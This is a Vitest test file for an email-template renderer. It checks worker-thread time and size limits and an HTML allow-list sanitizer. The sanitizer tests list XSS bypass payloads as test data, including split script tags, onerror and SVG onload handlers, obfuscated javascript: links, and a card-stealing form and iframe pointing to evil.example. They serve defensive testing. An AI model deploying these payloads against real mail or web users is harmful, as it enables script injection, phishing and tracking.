import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { validationContexts } from '../../../src/messaging/templates/context.js';
import {
  defaultTemplate,
  previewEmail,
  renderEmail,
  sampleContext,
  type Template,
  TemplateError,
  type TemplateName,
  validateTemplate,
} from '../../../src/messaging/templates/index.js';
import { runOnWorker } from '../../../src/messaging/templates/pool.js';
import { hostileContext } from './fixtures/contexts.js';

const portalLink = '<a href="{{ portalUrl }}">Your page</a>';

function template(parts: Partial<Template>): Template {
  return {
    subject: 'Hello {{ debtor.name }}',
    html: `<p>{{ debtor.name }}</p>${portalLink}`,
    text: '{{ debtor.name }} {{ portalUrl }}',
    ...parts,
  };
}

/** About a second of Liquid work, until Liquid's own render limit stops it. */
const heavy = template({
  html: `${portalLink}{% for a in (1..1500) %}{% for b in (1..1500) %}{{ a | times: b }}{% endfor %}{% endfor %}`,
});

async function problemsOf(run: () => Promise<unknown>): Promise<string[]> {
  try {
    await run();
  } catch (error) {
    if (error instanceof TemplateError) return error.problems;
    throw error;
  }
  throw new Error('expected a TemplateError');
}

/** The longest the event loop went without running a timer while `work` was under way. */
async function longestStall(work: () => Promise<unknown>): Promise<number> {
  let last = performance.now();
  let longest = 0;
  const timer = setInterval(() => {
    const now = performance.now();
    longest = Math.max(longest, now - last);
    last = now;
  }, 5);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return Math.max(longest, performance.now() - last);
}

describe('rendering on worker threads', () => {
  it('keeps the event loop responsive while heavy previews render', async () => {
    await renderEmail(defaultTemplate('neutral'), sampleContext); // the worker is up
    const started = performance.now();
    let outcomes: PromiseSettledResult<unknown>[] = [];
    const stall = await longestStall(async () => {
      outcomes = await Promise.allSettled([1, 2, 3, 4].map(() => previewEmail(heavy)));
    });
    // The renders did run (about a second each) and failed on Liquid's render limit, or, on a machine
    // so busy that a second of CPU takes longer than the pool's task limit, on that limit.
    expect(performance.now() - started).toBeGreaterThan(500);
    for (const outcome of outcomes) {
      expect(outcome.status).toBe('rejected');
      if (outcome.status === 'rejected')
        expect(String(outcome.reason)).toMatch(/takes too long to render|took too long to render/);
    }
    expect(stall).toBeLessThan(200);
  });

  it('stops a render that outlives its time limit, with a clear error, and keeps working', async () => {
    await renderEmail(defaultTemplate('neutral'), sampleContext);
    const started = performance.now();
    const problems = await problemsOf(() =>
      runOnWorker({ kind: 'render', template: heavy, context: sampleContext }, 150).then((outcome) => {
        if (!outcome.ok) throw new TemplateError(outcome.problems);
      }),
    );
    expect(performance.now() - started).toBeLessThan(900);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^This template took too long to render/);
    // The stopped worker is replaced.
    const email = await renderEmail(defaultTemplate('friendly'), sampleContext);
    expect(email.text).toContain('Priya Shah');
  });

  it('caps the size of what a template renders', async () => {
    const huge = template({
      text: '{{ portalUrl }}{% for i in (1..200000) %}twenty characters..{% endfor %}',
    });
    const problems = await problemsOf(() => renderEmail(huge, sampleContext));
    expect(problems).toEqual(['Text body, line 1, column 42: the rendered email is larger than 2 MB']);
    expect((await validateTemplate(huge)).ok).toBe(false);
  });

  it('validates on a worker, with the same problems as before', async () => {
    expect(await validateTemplate(defaultTemplate('firm'))).toEqual({ ok: true });
    expect(await validateTemplate(template({ text: 'Hi {{ debtr.name }} {{ portalUrl }}' }))).toEqual({
      ok: false,
      problems: ['Text body, line 1, column 7: unknown merge field "debtr.name"'],
    });
  });
});

describe('the HTML of every email goes through the allow-list', () => {
  const bypasses: Record<string, string> = {
    'a script split by Liquid': `<scr{{ "" }}ipt>alert(1)</scr{{ "" }}ipt>`,
    'an event handler split by Liquid': `<img src="https://example.com/x.png" o{{""}}nerror="alert(1)">`,
    'an SVG with onload': '<svg/onload=alert(1)>',
    'an SVG with a script': '<svg><script>alert(1)</script></svg>',
    'a meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'a form to another site':
      '<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay now</button></form>',
    'a javascript link split by Liquid': `<a href="java{{ '' }}script:alert(1)">pay</a>`,
    'a javascript link with an entity': '<a href="javascript&#58;alert(1)">pay</a>',
    'a javascript link with a tab': '<a href="java&Tab;script:alert(1)">pay</a>',
    'a frame': '<iframe src="https://evil.example/"></iframe>',
    'a style sheet': '<style>body{background:url(https://track.example/p)}</style>',
    'a tracking style': '<p style="background:url(https://track.example/p)">hi</p>',
  };

  it.each(Object.entries(bypasses))('removes %s from the rendered email', async (_name, markup) => {
    const { html } = await renderEmail(
      template({ html: `<p>Hello</p>${markup}${portalLink}` }),
      sampleContext,
    );
    expect(html).not.toMatch(/<script|<svg|<form|<input|<button|<iframe|<style|http-equiv|url\(/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/javascript|&#58;|&Tab;/i);
    expect(html).toContain('<p>Hello</p>');
    expect(html).toContain(`<a href="${sampleContext.portalUrl.replaceAll('&', '&amp;')}">Your page</a>`);
  });

  it.each(Object.entries(bypasses))('says on save that %s is not allowed', async (_name, markup) => {
    const result = await validateTemplate(template({ html: `${markup}${portalLink}` }));
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problems.join('\n')).toMatch(/not allowed/);
  });

  it('keeps what email needs: structure, tables, inline styles, http, https and mailto links', async () => {
    const html =
      '<h2 style="color:#222;">Hi</h2><p><strong>a</strong> <em>b</em><br><span style="color:red;">c</span></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="border-collapse:collapse;">' +
      '<thead><tr><th align="left">x</th></tr></thead><tbody><tr><td valign="top" colspan="2">y</td></tr></tbody></table>' +
      `<a href="mailto:accounts@example.com">mail</a> <a href="https://example.com/?a=1&amp;b=2">web</a>${portalLink}`;
    const email = await renderEmail(template({ html }), sampleContext);
    expect(email.html).toBe(
      html.replace('{{ portalUrl }}', sampleContext.portalUrl.replaceAll('&', '&amp;')),
    );
  });

  it('renders the default templates exactly as before the allow-list', async () => {
    const before: Record<string, unknown> = JSON.parse(
      readFileSync(new URL('./fixtures/default-renders.json', import.meta.url), 'utf8'),
    );
    const names: TemplateName[] = [
      'friendly',
      'neutral',
      'firm',
      'formal',
      'final',
      'installment',
      'settlement',
    ];
    const contexts = [...validationContexts, hostileContext];
    const after: Record<string, unknown> = {};
    for (const name of names)
      for (const [index, context] of contexts.entries())
        after[`${name}/${index}`] = await renderEmail(defaultTemplate(name), context);
    expect(after).toEqual(before);
  });
});
